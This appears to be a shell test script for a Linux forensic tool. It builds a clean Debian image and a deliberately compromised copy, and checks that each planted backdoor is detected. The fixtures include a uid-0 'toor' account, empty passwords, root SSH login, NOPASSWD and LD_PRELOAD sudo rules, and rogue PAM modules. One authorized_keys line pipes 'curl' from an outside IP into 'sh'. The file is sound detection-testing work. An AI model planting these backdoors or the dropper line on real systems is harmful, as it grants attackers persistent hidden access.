#!/bin/sh
# t3300 - persistence, SSH and accounts: a clean Debian 12 server stays
# quiet, a compromised one shows every planted way back in (sshd_config,
# authorized_keys, passwd/shadow/group, sudoers, PAM) with its path and
# line, hostile files (include loops, huge lines, 10^5 accounts) are read
# in bounded time, and the demo server's attacker is found
. "${TOP:?}/tests/lib/e2e.sh"
. "$TOP/tests/lib/clean-server.sh"

demo=$IMG/demo.img
MKIMAGE=$TOP/scripts/mkimage.sh

# --- a clean Debian 12 server ------------------------------------------
clean=$T/clean
clean_accounts_tree "$clean"

# json: the findings of the last rs in $T/out
has() {	# CHECK JQ-CONDITION
	jq -e -s "map(select(.type == \"finding\" and .check == \"$1\" and
	    ($2))) | length > 0" "$T/out" >/dev/null
}
count() {	# CHECK: how many findings of CHECK
	jq -s "map(select(.type == \"finding\" and .check == \"$1\")) |
	    length" "$T/out"
}
no_medium() {
	! jq -e -s 'map(select(.type == "finding" and (.severity == "medium"
	    or .severity == "high"))) | length > 0' "$T/out" >/dev/null
}
at() {	# CHECK PATH LINE: a finding of CHECK at PATH:LINE
	has "$1" ".path == \"$2\" and .line == $3"
}
lineof() {	# FILE PATTERN: the first line of FILE matching PATTERN
	grep -n -- "$2" "$1" | head -1 | cut -d: -f1
}

sh "$MKIMAGE" -s 16M -T 20250101000000 "$clean" "$T/clean.img"
rs persistence --format json --since 2026-11-20 "$T/clean.img"
cp "$T/out" "$T/clean.json"
check "clean: json parses" jq -e . "$T/out" >/dev/null
check "clean: anna's key recorded" jq -e -s 'map(select(.kind == "ssh_key"
    and .user == "anna" and .key == "ED25519" and .bits == 256 and
    (.fingerprint | startswith("SHA256:")))) | length == 1' "$T/out" >/dev/null
check "clean: accounts recorded, anna in sudo" jq -e -s 'map(select(.kind ==
    "account" and .user == "anna" and (.groups | test("sudo")))) |
    length == 1' "$T/out" >/dev/null
check "clean: sshd settings recorded" jq -e -s 'map(select(.kind ==
    "sshd_setting" and .keyword == "UsePAM")) | length == 1' "$T/out" >/dev/null
check "clean: %sudo rule recorded" jq -e -s 'map(select(.kind ==
    "sudo_rule" and .users == "%sudo")) | length == 1' "$T/out" >/dev/null
for c in ssh.root_password_login ssh.key_file_immutable ssh.bad_key_line \
    accounts.uid0_alias accounts.empty_password accounts.system_login \
    pam.permit_auth pam.unknown_module sudo.nopasswd_all; do
	check "clean: no $c" test "$(count $c)" = 0
done
check "clean: no finding of medium or higher" no_medium
rs persistence "$T/clean.img"
status "clean: exit 0" 0

# --- the same server, compromised ----------------------------------------
bad=$T/bad
cp -a "$clean" "$bad"
cat >>"$bad/etc/passwd" <<'EOF'
toor:x:0:0::/root:/bin/bash
guest:x:1001:1001::/home/guest:/bin/bash
lpd:x:7:7::/var/spool/lpd:/usr/sbin/nologin
EOF
sed -i -e 's|^backup:x:34:34:backup:/var/backups:/usr/sbin/nologin|backup:x:34:34:backup:/var/backups:/bin/bash|' \
    -e 's|^games:x:5:60:games:/usr/games:/usr/sbin/nologin|games:x:5:60:games:/usr/games:/usr/sbin/nologin|' \
    "$bad/etc/passwd"
sed -i -e 's|^backup:\*:|backup:$6$salt$Qp0Y3hM2v9b7yT1kL4nX8cR5wE6zA0sD3fG7hJ2kL9mN1bV4cX6zA8sD5fG2hJ7kL0mN3bV9cX1zA4sD6fG8hJ:|' \
    -e 's|^games:\*:|games::|' \
    -e 's|^anna:\(\$y\$[^:]*\):19884:|anna:\1:20777:|' "$bad/etc/shadow"
cat >>"$bad/etc/shadow" <<'EOF'
toor:$6$Xk2pL9qR$hJ3kL5mN7pQ9rS1tU3vW5xY7zA9bC1dE3fG5hI7jK9lM1nO3pQ5rS7tU9vW1xY3zA5bC7dE9fG1hI3jK5lM7n:20777:0:99999:7:::
guest::20777:0:99999:7:::
lpd:*:20777:0:99999:7:::
EOF
sed -i 's/^sudo:x:27:anna$/sudo:x:27:anna,toor,backup/' "$bad/etc/group"
sed -i 's/^docker:.*//' "$bad/etc/group"
echo 'guest:x:1001:' >>"$bad/etc/group"
echo 'guest:!::' >>"$bad/etc/gshadow"
mkdir -p "$bad/home/guest"
cat >"$bad/etc/ssh/sshd_config.d/50-cloud.conf" <<'EOF'
PermitRootLogin yes
PermitEmptyPasswords yes
Port 22
Port 2222
AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u
AuthorizedKeysCommand /tmp/.x/keys %u
AuthorizedKeysCommandUser root
PermitUserEnvironment yes
Match Address 192.0.2.0/24
	PermitRootLogin yes
EOF
mkdir -p "$bad/root/.ssh" "$bad/var/tmp/.k"
{
	key ed25519 '' x@kali
	echo "command=\"curl -s http://203.0.113.9/x | sh\" $(key ed25519 '' ci@build)"
	echo 'this is not a key at all'
	key rsa 1024 old@box
} >"$bad/root/.ssh/authorized_keys"
key ed25519 '' hidden@nowhere >"$bad/var/tmp/.k/root"
chmod 0666 "$bad/home/anna/.ssh/authorized_keys"
cat >"$bad/etc/sudoers.d/90-cloud-init-users" <<'EOF'
# Created by cloud-init v. 22.4.2 on Thu, 20 Nov 2026 08:20:00 +0000

# User rules for admin
admin ALL=(ALL) NOPASSWD:ALL
EOF
cat >"$bad/etc/sudoers.d/zz-maint" <<'EOF'
Defaults	!authenticate
Defaults	env_keep += "LD_PRELOAD"
anna	ALL=(ALL:ALL) NOPASSWD: ALL
EOF
echo 'anna ALL=(ALL) NOPASSWD: ALL' >"$bad/etc/sudoers.d/skipped.conf"
printf '%%adm ALL=(ALL) ALL\nanna ALL=(www-data) NOPASSWD: ALL\n' \
    >"$bad/etc/sudoers.d/local"
sed -i '1i auth	sufficient	pam_permit.so' "$bad/etc/pam.d/sshd"
cat >>"$bad/etc/pam.d/sshd" <<'EOF'
session	optional	pam_exec.so quiet /tmp/.x/log.sh
auth	optional	/usr/local/lib/pam_update.so
EOF
sed -i 's/^auth	requisite			pam_deny.so/auth	optional	pam_cache.so\n&/' \
    "$bad/etc/pam.d/common-auth"
: >"$bad/usr/lib/x86_64-linux-gnu/security/pam_cache.so"
cat >>"$bad.attrs" <<'EOF'
etc/shadow                     0640  0:42       20261120082700
etc/gshadow                    0640  0:42       -
etc/sudoers                    0440  -          -
etc/sudoers.d/README           0440  -          -
etc/sudoers.d/90-cloud-init-users 0440 -        -
etc/sudoers.d/zz-maint         0440  -          20261120083000
etc/sudoers.d/local            0664  1000:1000  -
root                           0700  -          -
root/.ssh                      0700  -          20261120082800
root/.ssh/authorized_keys      0600  -          20261120082810  i
home/anna/                     -     1000:1000  20250110120000
home/anna                      0750  -          -
home/anna/.ssh                 0700  -          -
home/anna/.ssh/authorized_keys 0666  -          -
home/guest/                    -     1001:1001  20261120082900
EOF
sh "$MKIMAGE" -s 16M -T 20250101000000 "$bad" "$T/bad.img"
rs persistence --format json --since 2026-11-20 "$T/bad.img"
cp "$T/out" "$T/bad.json"
status "compromised: exit 1" 1
c50=/etc/ssh/sshd_config.d/50-cloud.conf
f=$bad$c50
check "ssh.root_password_login at $c50" at ssh.root_password_login $c50 \
    "$(lineof "$f" '^PermitRootLogin')"
check "ssh.root_password_login in a Match block" has \
    ssh.root_password_login "((.detail // \"\") | test(\"Match Address 192.0.2.0/24\"))
    and .line == $(lineof "$f" '^	PermitRootLogin')"
check "ssh.permit_empty_passwords" at ssh.permit_empty_passwords $c50 \
    "$(lineof "$f" '^PermitEmpty')"
check "ssh.extra_port 2222 (and only it)" sh -c "[ $(count ssh.extra_port) = 1 ]"
check "ssh.extra_port line" at ssh.extra_port $c50 "$(lineof "$f" '^Port 2222')"
check "ssh.authorized_keys_command" at ssh.authorized_keys_command $c50 \
    "$(lineof "$f" '^AuthorizedKeysCommand ')"
check "the keys command is judged (rc.*)" has rc.temp_exec \
    ".path == \"$c50\""
check "ssh.authorized_keys_file in /var/tmp" at ssh.authorized_keys_file $c50 \
    "$(lineof "$f" '^AuthorizedKeysFile')"
check "ssh.permit_user_environment" at ssh.permit_user_environment $c50 \
    "$(lineof "$f" '^PermitUserEnv')"
check "key in AuthorizedKeysFile /var/tmp/.k/%u read" jq -e -s \
    'map(select(.kind == "ssh_key" and .path == "/var/tmp/.k/root" and
    .comment == "hidden@nowhere")) | length == 1' "$T/out" >/dev/null
rk=/root/.ssh/authorized_keys
check "ssh.key_file_immutable" has ssh.key_file_immutable ".path == \"$rk\""
check "ssh.forced_command on the key" at ssh.forced_command $rk 2
check "the key's command is judged" has rc.dropper \
    ".path == \"$rk\" and .line == 2"
check "ssh.bad_key_line" at ssh.bad_key_line $rk 3
check "ssh.weak_key (RSA 1024)" at ssh.weak_key $rk 4
check "ssh.key_file_permissions (0666)" has ssh.key_file_permissions \
    '.path == "/home/anna/.ssh/authorized_keys"'
check "root's key file changed in the window" has persist.changed \
    ".path == \"$rk\""
check "attacker key x@kali recorded" jq -e -s 'map(select(.kind ==
    "ssh_key" and .user == "root" and .comment == "x@kali" and .line == 1))
    | length == 1' "$T/out" >/dev/null
pw=$bad/etc/passwd
sh_=$bad/etc/shadow
check "accounts.uid0_alias toor" at accounts.uid0_alias /etc/passwd \
    "$(lineof "$pw" '^toor:')"
check "accounts.empty_password guest" at accounts.empty_password /etc/shadow \
    "$(lineof "$sh_" '^guest:')"
check "accounts.empty_password_nologin games" at \
    accounts.empty_password_nologin /etc/shadow "$(lineof "$sh_" '^games:')"
check "accounts.system_login backup" at accounts.system_login /etc/passwd \
    "$(lineof "$pw" '^backup:')"
check "accounts.duplicate_uid lp/lpd" at accounts.duplicate_uid /etc/passwd \
    "$(lineof "$pw" '^lpd:')"
check "accounts.password_changed anna" at accounts.password_changed \
    /etc/shadow "$(lineof "$sh_" '^anna:')"
check "accounts.added guest" at accounts.added /etc/passwd \
    "$(lineof "$pw" '^guest:')"
check "accounts.privileged_group toor in sudo" has accounts.privileged_group \
    '.path == "/etc/group" and (.evidence | test("^toor "))'
check "accounts.privileged_group backup in sudo" has accounts.privileged_group \
    '.evidence | test("^backup ")'
check "no privileged_group for anna" sh -c "! jq -e -s 'map(select(.check
    == \"accounts.privileged_group\" and (.evidence | test(\"^anna \"))))
    | length > 0' '$T/out' >/dev/null"
check "accounts.gshadow_mismatch sudo" has accounts.gshadow_mismatch \
    '.path == "/etc/gshadow" and (.evidence | test("^sudo:"))'
zz=/etc/sudoers.d/zz-maint
check "sudo.no_authenticate" at sudo.no_authenticate $zz 1
check "sudo.env_keep_ld" at sudo.env_keep_ld $zz 2
check "sudo.nopasswd_all anna" at sudo.nopasswd_all $zz 3
check "sudo.nopasswd_all_cloud_user admin (low)" at \
    sudo.nopasswd_all_cloud_user /etc/sudoers.d/90-cloud-init-users 4
check "sudoers.d file with a dot skipped" sh -c "[ $(jq -s 'map(select(
    .path == "/etc/sudoers.d/skipped.conf")) | length' "$T/out") = 0 ]"
check "NOPASSWD ALL as www-data is not sudo.nopasswd_all" sh -c "[ \
    $(count sudo.nopasswd_all) = 1 ]"
check "sudo.writable (owned by 1000, 0664)" has sudo.writable \
    '.path == "/etc/sudoers.d/local"'
check "sudoers.d file changed in the window" has persist.changed \
    ".path == \"$zz\""
check "pam.permit_auth sufficient" at pam.permit_auth /etc/pam.d/sshd 1
check "Debian's prime-the-stack pam_permit stays quiet" sh -c "[ $(jq -s \
    'map(select(.check == "pam.permit_auth" and .path ==
    "/etc/pam.d/common-auth")) | length' "$T/out") = 0 ]"
check "pam.pam_exec" at pam.pam_exec /etc/pam.d/sshd \
    "$(lineof "$bad/etc/pam.d/sshd" pam_exec)"
check "pam_exec's command judged" has rc.temp_exec \
    '.path == "/etc/pam.d/sshd"'
check "pam.unknown_module outside the module dirs" at pam.unknown_module \
    /etc/pam.d/sshd "$(lineof "$bad/etc/pam.d/sshd" pam_update)"
check "pam.unknown_module not packaged" at pam.unknown_module \
    /etc/pam.d/common-auth "$(lineof "$bad/etc/pam.d/common-auth" pam_cache)"

# --- hostile ---------------------------------------------------------------
h=$T/hostile
mkdir -p "$h/etc/sudoers.d" "$h/etc/ssh/sshd_config.d" "$h/root/.ssh"
cp "$clean/etc/os-release" "$h/etc/"
cat >"$h/etc/sudoers" <<'EOF'
#include /etc/sudoers
@include sudoers.d/a
EOF
printf '@include b\nroot ALL=(ALL) ALL\n' >"$h/etc/sudoers.d/a"
printf '#include /etc/sudoers.d/a\nloopy ALL=(ALL) NOPASSWD: ALL\n' \
    >"$h/etc/sudoers.d/b"
cat >"$h/etc/ssh/sshd_config" <<'EOF'
Include /etc/ssh/sshd_config
Include sshd_config.d/*.conf
EOF
echo 'Include /etc/ssh/sshd_config.d/b.conf' >"$h/etc/ssh/sshd_config.d/a.conf"
printf 'Include a.conf\nPermitEmptyPasswords yes\n' \
    >"$h/etc/ssh/sshd_config.d/b.conf"
{
	echo 'garbage line one'
	printf 'ssh-ed25519 !!!notbase64!!! x\n'
	printf '\001\002\003\n'
	printf 'command="'
	head -c 1048576 /dev/zero | tr '\0' 'A'
	printf '" %s\n' "$(key ed25519 '' long@line)"
	key ed25519 '' after@long
} >"$h/root/.ssh/authorized_keys"
awk 'BEGIN { print "root:x:0:0:root:/root:/bin/bash"
	for (i = 1; i < 100000; i++)
		printf "u%d:x:%d:%d::/nonexistent:/usr/sbin/nologin\n", i, 100000 + i, 100000 + i }' \
    >"$h/etc/passwd"
rs_timed persistence --format json --root "$h"
check "hostile: finishes in time, exits 0 or 1" \
    sh -c "[ $rc = 0 ] || [ $rc = 1 ]"
check "hostile: no sanitizer report" sh -c "! grep -q \
    'AddressSanitizer\|runtime error:\|LeakSanitizer' '$T/err'"
check "hostile: sudoers loop read each file once" sh -c "[ $(jq -s \
    'map(select(.check == "sudo.nopasswd_all" and .path ==
    "/etc/sudoers.d/b")) | length' "$T/out") = 1 ]"
check "hostile: sshd Include loop read each file once" sh -c "[ $(jq -s \
    'map(select(.check == "ssh.permit_empty_passwords")) | length' \
    "$T/out") = 1 ]"
check "hostile: garbage key lines reported" sh -c "[ $(jq -s \
    'map(select(.check == "ssh.bad_key_line")) | length' "$T/out") -ge 3 ]"
check "hostile: the key after a 1 MiB line is read" jq -e -s \
    'map(select(.kind == "ssh_key" and .comment == "after@long" and
    .line == 5)) | length == 1' "$T/out" >/dev/null
check "hostile: the 1 MiB command= key is read" jq -e -s \
    'map(select(.kind == "ssh_key" and .comment == "long@line" and
    (.command | length) > 100)) | length == 1' "$T/out" >/dev/null
check "hostile: 100000 accounts recorded" sh -c "[ $(jq -s \
    'map(select(.kind == "account")) | length' "$T/out") = 100000 ]"

# --- the demo server ---------------------------------------------------------
rs persistence --format json "$demo"
status "demo: exit 1" 1
check "demo: attacker's key in root's authorized_keys" jq -e -s \
    'map(select(.kind == "ssh_key" and .user == "root" and
    .path == "/root/.ssh/authorized_keys" and .comment == "x@kali")) |
    length == 1' "$T/out" >/dev/null
check "demo: root's authorized_keys immutable" has ssh.key_file_immutable \
    '.path == "/root/.ssh/authorized_keys"'
check "demo: PermitRootLogin yes with passwords (the drop-in wins)" at \
    ssh.root_password_login /etc/ssh/sshd_config.d/99-migration.conf 2
check "demo: uid-0 sysadmin" at accounts.uid0_alias /etc/passwd 25
check "demo: sysadmin in sudo" has accounts.privileged_group \
    '.path == "/etc/group" and (.evidence | test("^sysadmin .* sudo"))'

finish
